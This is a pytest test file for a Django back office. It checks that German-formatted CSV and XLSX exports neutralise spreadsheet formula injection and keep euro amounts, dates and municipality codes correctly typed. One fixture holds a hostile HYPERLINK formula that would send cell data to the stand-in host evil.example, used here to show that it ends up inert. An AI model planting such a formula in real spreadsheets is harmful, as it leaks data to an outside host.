"""Exports for German Excel that a spreadsheet cannot be attacked through: CSV with
`;`, BOM and neutralised formulas; XLSX with text as text, amounts as € numbers and
dates as dates; the export page's field picker in German."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from backoffice.exports import Euro, GermanCSV, csv_cell, spreadsheet_text
from cooperations.models import Cooperation
from cooperations.resources import CooperationResource
from funding.models import Grant
from funding.resources import GrantResource

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
CSV_INDEX, XLSX_INDEX = "0", "1"


def export(client: Client, url: str, resource: type, fmt: str) -> bytes:
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(url, {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.fixture
def hostile_case(case_kassel: Cooperation) -> Cooperation:
    case_kassel.title = HOSTILE
    case_kassel.next_step = "-1 Termin absagen"
    case_kassel.next_step_due = dt.date(2026, 12, 31)
    case_kassel.expected_savings_eur = Decimal("12345.6")
    case_kassel.save()
    return case_kassel


def test_a_hostile_case_title_is_inert_text_in_the_csv_export(
    adviser: Client, hostile_case: Cooperation
) -> None:
    content = export(
        adviser, reverse("admin:cooperations_cooperation_export"), CooperationResource, CSV_INDEX
    )
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the umlauts
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Aktenzeichen;Titel;Federführende Kommune;AGS;")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    record = next(r for r in rows if r["Aktenzeichen"] == hostile_case.reference)
    assert record["Titel"] == "'" + HOSTILE
    assert record["Nächster Schritt"] == "'-1 Termin absagen"
    assert record["fällig am"] == "31.12.2026"
    assert record["Erwartete Einsparung pro Jahr"] == "12.345,60 €"
    assert record["AGS"] == hostile_case.lead_municipality.ags  # leading zero kept
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_a_hostile_case_title_is_a_text_cell_in_the_xlsx_export(
    adviser: Client, hostile_case: Cooperation
) -> None:
    content = export(
        adviser, reverse("admin:cooperations_cooperation_export"), CooperationResource, XLSX_INDEX
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile_case.reference)
    cells = dict(zip(header, row, strict=True))
    title = cells["Titel"]
    assert (title.value, title.data_type) == (HOSTILE, "s")  # text, not a formula ("f")
    savings = cells["Erwartete Einsparung pro Jahr"]
    assert (savings.value, savings.data_type) == (12345.6, "n")
    assert "€" in savings.number_format
    due = cells["fällig am"]
    assert (due.value, due.number_format) == (dt.datetime(2026, 12, 31), "DD.MM.YYYY")
    assert cells["Partner (Anzahl)"].value == 2
    assert cells["AGS"].data_type == "s" and cells["AGS"].value.startswith("06")


def test_grant_amounts_are_euro_numbers_and_dates_are_dates_in_xlsx(adviser: Client, demo_file: dict) -> None:
    content = export(adviser, reverse("admin:funding_grant_export"), GrantResource, XLSX_INDEX)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["bewilligt"].value == 100000 and "€" in cells["bewilligt"].number_format
    assert cells["Bescheid vom"].value == dt.datetime(2024, 6, 1)
    assert cells["Haushaltsjahr"].data_type == "n"


def test_the_export_page_names_the_columns_in_german(adviser: Client, hostile_case: Cooperation) -> None:
    page = adviser.get(reverse("admin:cooperations_cooperation_export")).content.decode()
    assert "Alle auswählen" in page and 'for="select-all-toggle"' in page
    assert ">Aktenzeichen</label>" in page and ">Federführende Kommune</label>" in page
    for english in ("Select all", "Reference (Aktenzeichen)", "Lead Ags (AGS)", "onchange=", 'style="'):
        assert english not in page


def test_an_exported_csv_with_semicolons_and_bom_imports_again(
    administrator: Client, demo_file: dict
) -> None:
    content = export(administrator, reverse("admin:funding_grant_export"), GrantResource, CSV_INDEX)
    from django.core.files.uploadedfile import SimpleUploadedFile

    page = administrator.post(
        reverse("admin:funding_grant_import"),
        {
            "format": CSV_INDEX,
            "resource": "0",
            "import_file": SimpleUploadedFile("foerderungen.csv", content, content_type="text/csv"),
        },
    ).content.decode()
    assert "process_import" in page  # no row error: the confirm button is offered
    assert Grant.objects.count() == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_csv(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_text(f"{start}x") == f"'{start}x"


def test_numbers_and_dates_are_never_prefixed() -> None:
    assert csv_cell(Euro("-1234.5")) == "-1.234,50 €"
    assert csv_cell(Decimal("-0.5")) == "-0,50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(dt.date(2026, 12, 31)) == "31.12.2026"
    assert csv_cell("Kassel") == "Kassel"


def test_the_csv_format_reads_semicolons_commas_and_its_own_prefix_back() -> None:
    dataset = GermanCSV().create_dataset("\ufeffTitel;Betrag\r\n'=SUMME(A1);1.234,56 €\r\n")
    assert dataset.headers == ["Titel", "Betrag"]
    assert dataset[0] == ("=SUMME(A1)", "1.234,56 €")
    assert GermanCSV().create_dataset("a,b\n1,2\n")[0] == ("1", "2")
